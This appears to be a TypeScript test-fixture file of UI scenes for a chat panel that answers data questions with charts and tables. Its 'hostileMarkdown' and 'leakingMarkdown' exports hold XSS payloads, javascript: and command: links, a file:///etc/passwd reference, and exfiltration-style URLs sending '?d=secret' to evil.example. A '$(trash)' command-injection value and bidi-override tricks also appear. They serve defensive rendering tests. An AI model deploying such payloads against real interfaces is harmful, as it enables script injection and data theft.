// States of the panel to look at and to test: each is a snapshot as the host would send it.
// Not here: how they are shown (server.ts, fakeHost.js).
// Over 300 lines, because it is data: one entry a scene.
import type { ChatUi, UploadItem } from '../../../src/bridge/messages.ts';
import {
  type AppState,
  type AssistantMessage,
  initialState,
  type Message,
  type UserMessage,
} from '../../../src/chat/state.ts';
import { formatMessage } from '../../../src/protocol/trellis/sqlContext.ts';
import { type Chart, chartTypes, type Table } from '../../../src/protocol/trellis/visualization.ts';

export interface Scene {
  state: AppState;
  ui: ChatUi;
  /** What the server lists for the chat. */
  uploads?: UploadItem[];
  /** What a person types there, and how the server would have it go on. */
  typed?: string;
  suggestions?: string[];
}

const noUi: ChatUi = { draft: '', context: [], scrollTop: null };
const connected: AppState = {
  ...initialState,
  source: { kind: 'sample' },
  connection: { phase: 'ready' },
  integrations: [
    { id: 'sample', display_name: 'Sample shop', engine: 'duckdb' },
    { id: 'warehouse', display_name: 'Warehouse with a rather long name', engine: 'postgres' },
  ],
  models: [
    { model_id: 'planner', display_name: 'Built-in planner', description: 'No model, no network' },
    { model_id: 'claude/default', display_name: 'Claude', description: '' },
  ],
  defaultModel: 'planner',
};

function chat(messages: Message[], more: Partial<AppState> = {}, ui: Partial<ChatUi> = {}): Scene {
  const title = 'Orders by region and a title that is too long to be shown whole';
  const open = { id: 'c1', title, messages, load: 'loaded' as const, integrationId: 'sample', model: 'planner' };
  return { state: { ...connected, chats: { c1: open }, openChatId: 'c1', ...more }, ui: { ...noUi, ...ui } };
}

let lastId = 0;

function asked(content: string, delivery: UserMessage['delivery'] = 'sent'): UserMessage {
  lastId += 1;
  return { role: 'user', id: `q${lastId}`, content, at: null, delivery };
}

function answered(part: Partial<AssistantMessage>): AssistantMessage {
  lastId += 1;
  return {
    ...{
      role: 'assistant',
      id: `a${lastId}`,
      content: '',
      at: null,
      status: 'done',
      processing: null,
      held: null,
      quiet: false,
      uploading: null,
      visualizations: [],
    },
    ...{ reading: null, sql: null, model: 'planner', clarification: [], error: null, feedback: null },
    ...part,
  };
}

const sql =
  "SELECT region, count(*) AS orders\nFROM orders\nWHERE order_date >= DATE '2025-01-01'\nGROUP BY region\nORDER BY orders DESC";
const regions = ['North', 'South', 'East', 'West'];

function chart(chart_type: string, data: Chart['data'], title = `A ${chart_type} of orders`): Chart {
  return { id: `v-${chart_type}-${title.length}`, type: 'chart', chart_type, title, data, sql };
}

const byRegion: Chart['data'] = {
  values: regions.map((label, index) => ({ label, value: [13_204, 12_350, 14_761, 9_888][index] ?? 0 })),
  x_axis_label: 'Region',
  y_axis_label: 'Orders',
};
const months = Array.from(
  { length: 36 },
  (_, index) => `${2023 + Math.floor(index / 12)}-${String((index % 12) + 1).padStart(2, '0')}`,
);
const byMonth: Chart['data'] = {
  values: months.map((label, index) => ({
    label,
    value: index === 17 ? null : Math.round(90_000 + 40_000 * Math.sin(index / 3) + index * 2100),
  })),
  x_axis_label: 'Month',
  y_axis_label: 'Revenue',
};
const byMonthAndRegion: Chart['data'] = {
  values: months
    .slice(0, 12)
    .flatMap((label, at) =>
      regions.map((series, index) => ({ label, series, value: 300 + 40 * index + ((at * 37 + index * 91) % 160) })),
    ),
  x_axis_label: 'Month',
  y_axis_label: 'Orders',
};
const byCustomer: Chart['data'] = {
  values: Array.from({ length: 12 }, (_, index) => ({
    label:
      ['Northwind Traders International', 'Ørsted & Søn', 'Café 東京', 'Acme', 'Blue Yonder Airlines'][index % 5] ?? '',
    value: 1_250_000.5 - index * 83_000,
  })),
  x_axis_label: 'Customer',
  y_axis_label: 'Revenue',
};

function dataOf(kind: string): Chart['data'] {
  if (kind === 'line' || kind === 'area') return byMonth;
  if (kind === 'bar_horizontal') return byCustomer;
  return kind === 'stacked_bar' ? byMonthAndRegion : byRegion;
}

const oneChart = Object.fromEntries(
  chartTypes.map((kind) => [
    `chart-${kind}`,
    chat([
      asked(`Show me orders as a ${kind} chart`),
      answered({
        visualizations: [chart(kind, dataOf(kind))],
        content: 'There are **50,203** orders in 4 regions.',
        reading: 'Number of orders, by region',
        sql,
      }),
    ]),
  ]),
);

const table: Table = {
  id: 't1',
  type: 'table',
  title: 'Top customers',
  headers: ['Customer', 'City', 'Orders', 'Revenue', 'Last order', 'Active'],
  columns: ['text', 'text', 'integer', 'number', 'date', 'boolean'].map((type, index) => ({ name: `c${index}`, type })),
  rows: Array.from({ length: 120 }, (_, index) => [
    `Customer number ${index + 1}${index === 3 ? ' with a name so long that nobody would want to read the whole of it in a column' : ''}`,
    index % 7 === 0 ? null : 'Springfield',
    (1000 - index).toLocaleString('en-US'),
    (123_456.5 - index * 731).toLocaleString('en-US'),
    '2025-11-03',
    index % 2 === 0,
  ]),
  row_count: 12_345,
  truncated: true,
  result_id: 'r1',
  sql,
};

export const hostileMarkdown = [
  '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>',
  '[run](command:workbench.action.quit) [js](javascript:window.hacked=1) [file](file:///etc/passwd) [vs](vscode://x/y) [data](data:text/html,hi)',
  '![a remote picture](http://127.0.0.1:9/pixel.png) ![data](data:image/png;base64,AAAA)',
  '[safe site](https://example.com/a?b=c) <a href="https://example.com" style="position:fixed" onclick="window.hacked=1">raw</a>',
  '<div style="position:fixed;inset:0;background:red">cover</div>',
  '| a | b |\n| --- | ---: |\n| <b onmouseover=alert(1)>x</b> | 2 |',
  '<iframe src="https://example.com"></iframe> <svg onload="window.hacked=1"></svg>',
].join('\n\n');

const longMarkdown = [
  '### What the numbers say',
  "Revenue grew in **every region**, most of all in *East*. The query used `date_trunc('month', order_date)`.",
  '1. East: 14,761 orders\n2. North: 13,204 orders\n   - of these, 2,001 returned\n3. South: 12,350 orders',
  '| Region | Orders | Share of the whole | Revenue | Average order value | Returned |\n| --- | ---: | :---: | ---: | ---: | ---: |\n| East | 14,761 | 29% | 1,203,551.25 | 81.54 | 1,002 |\n| North | 13,204 | 26% | 1,100,431.00 | 83.34 | 998 |',
  '> Returned orders are counted once.',
  "```sql\nSELECT region, date_trunc('month', order_date) AS month, sum(quantity * unit_price) AS revenue FROM orders JOIN order_items USING (order_id) GROUP BY ALL\n```",
  'averyveryveryveryveryveryveryveryveryveryverylongwordwithoutanyplacetobreakit See [the documentation](https://duckdb.org/docs/).',
].join('\n\n');

/** 120 by 80 pixels of red. */
export const redPng =
  'iVBORw0KGgoAAAANSUhEUgAAAHgAAABQCAIAAABd+SbeAAAAgUlEQVR42u3QQQkAAAgEsAt2/TGWLcTHYAmWaTkQBaJFI1q0aAuiRSNatGgLokUjWrRoRItGtGjRiBaNaNGiES0a0aJFI1o0okWLRrRoRIsWjWjRiBYtGtGiES1aNKJFI1q0aESLRrRo0YgWjWjRohEtGtGiRSNaNKJFi0a0aET/sem24rNkIybRAAAAAElFTkSuQmCC';
const picturesMarkdown = [
  `Here it is: ![a red square](data:image/png;base64,${redPng}) as you wished.`,
  `A file: [notes](data:application/pdf;base64,${'JVBERi0x'.repeat(4000)}) and ![no picture](data:image/png;base64,${'AAAA'.repeat(2000)}).`,
  '![elsewhere](https://example.com/a.png)',
].join('\n\n');

const wordsMarkdown = [
  'Do it like this:\n\n- one\n- two',
  '> A quoted line\n>\n> and another',
  '```ts\nconst answer = 42;\nconsole.log(answer, "a line that is much too long for a side bar of three hundred pixels");\n```',
  'Then:\n\n    indented code',
  'A picture: ![a cat](https://cats.example.com/cat.png?size=large) and [![badge](https://b.example/b.svg)](https://b.example/)',
  '![](https://bare.example/x.png) ![no](file:///etc/passwd) Download: /api/files/download-pdf/a.pdf',
].join('\n\n');

/** What a model may try: to load, to lead elsewhere under another name, to read otherwise than it is. */
export const leakingMarkdown = [
  '![chart](http://127.0.0.1:9/a.png?d=secret) ![chart][ref] [![badge](https://127.0.0.1:9/b.png)](https://evil.example/?d=secret)',
  '[ref]: https://127.0.0.1:9/ref.png "title"',
  '![vector](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=) ![svg](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E) ![blob](blob:https://x/y)',
  '<img srcset="http://127.0.0.1:9/c.png 2x"> <picture><source srcset="http://127.0.0.1:9/d.png"></picture> <video poster="http://127.0.0.1:9/e.png" src="http://127.0.0.1:9/e.mp4" autoplay></video>',
  '<div style="background:url(http://127.0.0.1:9/f.png)">x</div> <style>@import "http://127.0.0.1:9/g.css";</style> <link rel="stylesheet" href="http://127.0.0.1:9/h.css"> <link rel="prefetch" href="http://127.0.0.1:9/i"> <object data="http://127.0.0.1:9/j"></object> <form action="http://127.0.0.1:9/k"><button>Go</button></form>',
  '[https://good.example/report](https://evil.example/?d=secret) <https://auto.example/path> https://bare.example/path [mail](mailto:a@evil.example?body=secret)',
  '[cmd](command:trellis.signOut) [cmd](COMMAND:trellis.signOut) [js](java\nscript:alert(1)) [ent](java&#115;cript:alert(1)) [rel](/etc/passwd) [proto](//evil.example/x) [ftp](ftp://evil.example/x) [vscode](vscode://x/y) [ws](wss://evil.example)',
  'The total is \u202E0021\u202C orders, \u2066not\u2069 less. `\u202Ecode`',
].join('\n\n');

const context = [
  { language: 'sql', path: 'queries/revenue_by_region_and_month.sql', lines: { from: 3, to: 9 }, text: sql },
  { language: 'python', path: 'load.py', text: 'print("hello")' },
];
const withContext = formatMessage({ question: 'What does this query do?', context });

function failure(
  message: string,
  more: Partial<NonNullable<AssistantMessage['error']>> = {},
): AssistantMessage['error'] {
  return { code: 'INTERNAL', message, retryable: true, debugId: null, suggestions: [], ...more };
}

const manySeries = {
  ...byMonthAndRegion,
  values: byMonthAndRegion.values.flatMap((item) => [item, { ...item, series: `${item.series} 2` }]),
};

const assistant: Partial<AppState> = {
  source: { kind: 'assistant', url: 'http://localhost:8010', user: 'ada' },
  integrations: [],
  models: ['default', 'claude', 'google', 'ollama', 'openrouter'].map((model_id) => ({
    model_id,
    display_name: model_id,
    description: '',
  })),
  defaultModel: 'default',
};

const providers = [
  { model_id: 'default', display_name: 'Default', description: 'ollama' },
  { model_id: 'claude', display_name: 'claude', description: 'claude-sonnet, not connected' },
  ...Array.from({ length: 14 }, (_, at) => ({
    ...{ model_id: `p${at}`, display_name: `Provider number ${at}` },
    description: at % 2 ? '' : `switched off: the key of provider ${at} was refused`,
  })),
];

/** A chat of an assistant server. */
function talk(messages: Message[], ui: Partial<ChatUi> = {}, more: Partial<AppState> = {}): Scene {
  const scene = chat(messages, { ...assistant, ...more }, ui);
  const { c1 } = scene.state.chats;
  return c1
    ? { ...scene, state: { ...scene.state, chats: { c1: { ...c1, model: null, integrationId: null } } } }
    : scene;
}

const thoughts = [
  '**Reading the question**',
  "The person asks for orders by region. I need the table of orders, and then `count(*)` grouped by `region`. Let's look at the schema first.",
  ...Array.from(
    { length: 12 },
    (_, at) => `${at + 1}. A step of thought that goes on for a while, until it is long enough to wrap.`,
  ),
].join('\n\n');

const tool = (label: string, running = false) => ({
  name: label.toLowerCase().replaceAll(/[ ()]+/g, '_'),
  label,
  running,
});

const longReading =
  'total quantity times unit price by customer where region of customers is "East" or "West" and order date is from 1 January 2025 to 12 March 2025, top 10, as a horizontal bar chart';

const modelMarkdown = [
  'Orders grew by **12.5%** to 50,203 in 2025, about $1,203,551.25 in all; of 2,001 returned ones 37 came back twice.',
  'By region:\n\n- East: 14,761\n- North: 13,204, or [37 of them](https://example.com/37) returned',
  '| Region | Share |\n| --- | ---: |\n| East | 29.4% |\n| North | 26.3% |',
  'Not marked: 137, 37.5, 37,000, x37, `37` and 2025.\n\n```sql\nSELECT 37\n```',
].join('\n\n');
/** As a server names them that are in no result. */
const unverified = ['12.5%', '37', '29.4%', '$1,203,551.25', '37'];
const modelTools = [
  'Looking at the tables',
  'Looking at the table orders_of_all_regions_with_a_name_that_is_long',
  'Running SQL failed: Binder Error: Referenced column "amont" not found in FROM clause! Candidate bindings: "amount"',
  'Running SQL · 1,234 rows · 0.8 s',
  'Drawing a chart',
].map((label) => ({ ...tool(label), name: 'run_sql', ...(label.includes('failed') ? { failed: true as const } : {}) }));
const claude = 'claude/claude-sonnet-4-6';
const manyModels = [
  { model_id: 'planner', display_name: 'Built-in planner', description: 'No model, no network' },
  ...Array.from({ length: 100 }, (_, at) => ({
    model_id: `openrouter/vendor-${at % 9}/model-${at}`,
    display_name: `A model with a rather long name, number ${at}`,
    description: '200,000 tokens',
  })),
  { model_id: claude, display_name: 'Claude Sonnet 4.6', description: '' },
];

export const scenes: Record<string, Scene> = {
  first: { state: { ...initialState, connection: { phase: 'idle' } }, ui: noUi },
  empty: { state: connected, ui: noUi },
  ...oneChart,
  'series-line': chat([
    asked('by month and region'),
    answered({ visualizations: [chart('line', manySeries)], content: 'Here.' }),
  ]),
  'series-bar': chat([
    asked('by region, grouped'),
    answered({
      visualizations: [
        chart('bar', {
          values: regions.map((label, index) => ({ label, value: [10 + index, 20 - index, null] })),
          series: ['Shipped', 'Open', 'Returned'],
        }),
        chart('area', byMonthAndRegion),
        chart(
          'hologram',
          { values: regions.map((label, index) => ({ label, values: { '2024': index + 3, '2025': index + 5 } })) },
          'A kind nobody knows',
        ),
      ],
      content: 'Three charts.',
    }),
  ]),
  table: chat([
    asked('Show me the top customers'),
    answered({ visualizations: [table], content: 'The best of **12,345** customers.', sql }),
  ]),
  'table-empty': chat([
    asked('Orders of the year 1900'),
    answered({
      visualizations: [{ ...table, rows: [], row_count: 0, truncated: false }, { id: 'only-an-id' }],
      content: 'There are no such orders.',
    }),
  ]),
  markdown: chat([asked('Explain'), answered({ content: longMarkdown })]),
  hostile: chat([asked('Say <b>something</b> bad'), answered({ content: hostileMarkdown })]),
  errors: chat([
    asked('Sing me a song'),
    answered({
      status: 'failed',
      error: failure('I did not understand this as a question about your data. Try one of these:', {
        code: 'NOT_UNDERSTOOD',
        debugId: '7f3a-11',
        suggestions: [
          'How many orders are there?',
          'Show me revenue by month',
          'Show me the top 5 projects by budget as a bar chart',
        ],
      }),
    }),
    asked('Show me sales'),
    answered({
      content: 'Which one do you mean?',
      clarification: [
        { label: 'Revenue by region', message: 'Show me revenue by region' },
        { label: 'Number of orders', message: 'How many orders?' },
      ],
    }),
    asked('Everything, please'),
    answered({ status: 'interrupted', content: 'There are' }),
    asked('And now?'),
    answered({ status: 'cut', content: 'There are 12', error: failure('The server ended and was started again.') }),
  ]),
  running: chat(
    [
      asked('Show me orders by region as a bar chart'),
      answered({ status: 'running', processing: 'analyzing', content: 'There are **50,2' }),
    ],
    {},
    { draft: 'The next question' },
  ),
  queued: chat(
    [asked('Show me orders by region'), answered({ status: 'running', processing: 'analyzing', quiet: true })],
    {
      queues: {
        c1: [
          { id: 'w1', content: 'And by month?' },
          { id: 'w2', content: 'Show me the top 20 customers of the whole of last year by revenue, please' },
        ],
      },
    },
  ),
  names: chat(
    [],
    {
      queues: { c1: [{ id: 'w1', content: 'Is this\u202E it?\nOr this?' }] },
      chats: {
        c1: {
          ...{ id: 'c1', title: 'Orders\u202E of\r\nregions\u0007', load: 'loaded' as const, model: 'planner' },
          integrationId: 'sample',
          messages: [
            { ...asked('\u202Ewhat\nand more'), files: [{ name: '\u202Evsc.exe', size: 12 }] },
            answered({ visualizations: [{ ...table, title: 'A table\u202E of\nwhat?' }], status: 'running' }),
          ],
        },
      },
      integrations: [
        { id: 'sample', display_name: 'Sample\u202E shop', engine: 'duckdb' },
        { id: 'other', display_name: 'Other', engine: 'duckdb' },
      ],
    },
    { context: [{ language: 'sql', path: 'queries/\u202Elqs.a', lines: { from: 3, to: 9 }, text: 'SELECT 1' }] },
  ),
  held: chat([
    asked('How many orders?'),
    answered({ status: 'running', held: { until: 4_000_000_000_000, why: 'rateLimit' } }),
  ]),
  uploading: chat([asked('Join these', 'sending'), answered({ status: 'running', uploading: 0.456 })]),
  stuck: chat(
    [
      asked('Show me orders by region', 'unsent'),
      answered({
        status: 'failed',
        error: failure('This account has 500 chats, which is as many as it can have.', { code: 'OPEN_CHAT_CAP' }),
      }),
      asked('Again'),
      answered({ status: 'failed', error: failure('There is no such model.', { code: 'UNKNOWN_MODEL' }) }),
    ],
    { queues: { c1: [{ id: 'w1', content: 'And by month?' }] } },
  ),
  unsent: chat([
    asked('Show me orders by region', 'unsent'),
    answered({
      status: 'failed',
      error: failure('The server could not be reached. Check the connection, then send it again.'),
    }),
  ]),
  chips: chat(
    [
      asked(withContext),
      answered({ content: 'It counts orders by region.', reading: 'What the attached query returns' }),
    ],
    {},
    { draft: 'And this one?\nSecond line', context },
  ),
  files: {
    ...chat(
      [
        {
          ...asked('Join these two, please'),
          files: [
            { name: 'sales_of_all_regions_and_a_name_that_is_too_long_to_be_shown_whole_2025.csv', size: 1_480_000 },
            { name: 'regions.csv', size: 812 },
          ],
        },
        answered({ content: 'They have **7** rows together.' }),
        { ...asked('And this one?', 'sending'), files: [{ name: 'large.csv', size: 28_000_000 }] },
        answered({ status: 'running', uploading: 0.456 }),
      ],
      {},
      {
        draft: 'The next question',
        files: [
          { id: 'f1', name: 'sales of the last quarter, by region and month.csv', size: 48_000 },
          { id: 'f2', name: 'c.csv', size: 12 },
        ],
      },
    ),
    uploads: [
      {
        ...{ id: 'u1', name: 'sales_of_all_regions_and_a_name_that_is_too_long_to_be_shown_whole_2025.csv' },
        ...{ size: 1_480_000, at: 1_760_000_000_000, kind: 'text/csv', canOpen: true },
      },
      { id: 'u2', name: 'regions.csv', size: null, at: null, kind: 'document', canOpen: false },
    ],
  },
  waiting: chat([asked('Hello?'), answered({ status: 'running' })], {
    connection: {
      phase: 'waiting',
      attempt: 3,
      retryAt: 4_000_000_000_000,
      reason: 'The connection to the server was lost.',
    },
    notice: { kind: 'warning', text: 'Your session has expired. Sign in again to go on.', action: 'signIn' },
  }),
  failed: {
    state: {
      ...connected,
      connection: { phase: 'failed', reason: 'The file sales.duckdb is used by another program.', action: 'openData' },
    },
    ui: noUi,
  },
  model: chat(
    [
      asked('Which regions grew?'),
      answered({
        ...{ thinking: thoughts, tools: modelTools, content: modelMarkdown, unverified, model: claude, sql },
        visualizations: [chart('bar', byRegion)],
      }),
      asked('Only one'),
      answered({ content: 'There are 7.', unverified: ['7'], model: 'other/not-listed' }),
      asked('And by the planner?'),
      answered({ content: 'There are **50,203** orders.' }),
    ],
    { models: manyModels },
    { choice: { model: claude } },
  ),
  'model-running': chat(
    [
      asked('Which regions grew?'),
      answered({
        ...{ status: 'running', processing: 'thinking', thinking: thoughts, content: 'First I look' },
        tools: modelTools.map((each, at) => (at === 4 ? { ...each, running: true } : each)),
      }),
    ],
    { models: manyModels, defaultModel: claude },
  ),
  'model-failed': chat(
    [
      asked('Which regions grew?'),
      answered({
        ...{ status: 'failed', tools: modelTools.slice(0, 2), content: 'The East grew by', model: claude },
        error: failure('The model claude-sonnet-4-6 stopped in the middle of its answer.', {
          code: 'MODEL_FAILED',
          debugId: '7f3a-12',
        }),
      }),
    ],
    { models: manyModels },
  ),
  'model-odd': chat(
    [
      asked('Odd \u202Ename'),
      answered({
        thinking: '\u202Eesrever ![x](http://127.0.0.1:9/t.png) <img src="http://127.0.0.1:9/u.png">',
        tools: [{ name: '\u202Etool', label: 'Looking at \u202Eeht\u2066 table\n<b>x</b>', running: false }],
        content: leakingMarkdown,
        visualizations: [
          {
            ...chart(
              'bar',
              { ...byRegion, x_axis_label: 'Re\u202Egion', y_axis_label: '\u2066Orders\nof' },
              'A \u202Etitle',
            ),
            id: 'odd',
          },
        ],
        model: 'odd/\u202Emodel\n$(trash)',
      }),
    ],
    { models: [...manyModels, { model_id: 'odd', display_name: '\u202Eddo', description: '' }], defaultModel: 'odd' },
  ),
  'models-none': {
    state: { ...connected, models: connected.models.slice(0, 1) },
    ui: noUi,
  },
  'assistant-empty': { state: { ...connected, ...assistant }, ui: noUi },
  'assistant-many': talk([asked('Hello'), answered({ content: 'Hi!', model: 'claude' })], {}, { models: providers }),
  'assistant-thinking': talk(
    [
      asked('Show me orders by region'),
      answered({
        status: 'running',
        thinking: thoughts,
        tools: [tool('Files (read)'), tool('Web (search)'), tool('Web (search)'), tool('Terminal (run)', true)],
        aside: 'Looking through the notes of last week • Reading a file with a name that is far too long for one line',
      }),
    ],
    { draft: 'The next question', choice: { options: { mood: 'friendly', web: true } } },
  ),
  'assistant-done': talk([
    asked('Show me orders by region'),
    answered({
      thinking: thoughts,
      tools: [
        'Files (read)',
        'Web (search)',
        'Web (search)',
        'Terminal (run)',
        'Memory (get)',
        'Subagents (spawn)',
      ].map((label) => tool(label)),
      content: 'There are **50,203** orders in 4 regions.',
      sql,
    }),
    {
      ...asked('What is in this picture?'),
      files: [{ name: 'a photo of the whole team at the last summer party.jpg', size: 388_000 }],
    },
    answered({ tools: [tool('Files (read)'), tool('Files (read)')], content: 'A dog and 4 people.' }),
    asked('Tell me a long story'),
    answered({ status: 'interrupted', content: 'Once upon a time', mayGoOn: true }),
    asked('And now?'),
    answered({ status: 'failed', error: failure('Error: the provider refused the key.', { code: 'SERVER_FAILED' }) }),
  ]),
  'assistant-picture': talk([asked('Hello'), answered({ content: 'Hi!' })], {
    draft: 'What is this?',
    files: [{ id: 'p1', name: 'a photo of the whole team at the last summer party.jpg', size: 388_000 }],
    choice: { options: { mood: null, web: false } },
  }),
  'assistant-words': talk(
    [
      asked('Explain'),
      answered({ content: wordsMarkdown, model: 'claude' }),
      {
        ...asked('And these?'),
        files: [
          { name: 'notes.txt', size: null },
          { name: 'regions.csv', size: 812 },
        ],
      },
      answered({ content: 'Short.', model: 'a-provider-of-its-own' }),
      asked('It did not go', 'unsent'),
      answered({ status: 'failed', model: null, error: failure('The server could not be reached.') }),
    ],
    {},
    { models: providers },
  ),
  'assistant-images': talk([asked('Draw me a square'), answered({ content: picturesMarkdown })]),
  reading: chat(
    [
      asked('orders in the east lately'),
      answered({
        content: 'There are **1,204** orders.',
        reading: 'Number of orders where region is East and order date is in the last 30 days',
        sql,
      }),
      asked('and by customer'),
      answered({
        content: 'Here they are.',
        visualizations: [chart('bar_horizontal', byCustomer)],
        reading: longReading,
      }),
    ],
    {},
    {
      draft: longReading,
      replaced: { by: longReading, draft: 'A question that was begun before' },
    },
  ),
  clarification: chat([
    asked('sales by region'),
    answered({
      content: 'Which sales do you mean?',
      clarification: ['total order amount', 'total quantity times unit price', 'number of orders'].map((label) => ({
        label,
        message: `${label} by region of customers where status of orders is not "cancelled" and order date is in 2025, highest first`,
      })),
    }),
  ]),
  suggestions: {
    ...chat([
      asked('How many orders are there?'),
      answered({ content: 'There are **50,203** orders.', reading: 'number of orders' }),
    ]),
    typed: 'number of orders by r',
    suggestions: [
      'region',
      'returned',
      'region of customer',
      'requested delivery date of the first shipment that belongs to the order, by month',
      'reason of return',
      'r\u202Eow count',
    ].map((name) => `number of orders by ${name}`),
  },
  long: chat(
    Array.from({ length: 60 }, (_, index) => [
      asked(`Question number ${index + 1}`),
      answered({ visualizations: index % 5 === 0 ? [chart('bar', byRegion)] : [], content: longMarkdown, sql }),
    ]).flat(),
  ),
};
